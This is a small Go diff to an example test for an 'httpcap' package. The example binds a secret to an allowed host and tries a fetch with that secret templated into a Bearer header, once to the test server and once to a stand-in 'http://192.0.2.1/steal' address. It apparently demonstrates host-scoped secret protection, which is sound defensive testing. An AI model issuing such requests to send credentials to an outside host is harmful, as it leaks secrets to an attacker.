@@ -100,7 +100,8 @@ func Example_secret() {
 		Secrets: map[string]httpcap.Secret{"api": {
 			Value: func(context.Context) (string, error) { return "correct-horse-battery", nil },
 			Hosts: []string{api}, Plain: true,
-		}}}}})
+		}},
+	}}})
 	for _, url := range []string{server.URL, "http://192.0.2.1/steal"} {
 		out, err := m.Call(ctx, "fetch", fmt.Appendf(nil, `{"url":%q,"headers":{"Authorization":"Bearer {{secret.api}}"}}`, url))
 		fmt.Println(string(out[8:]), err)
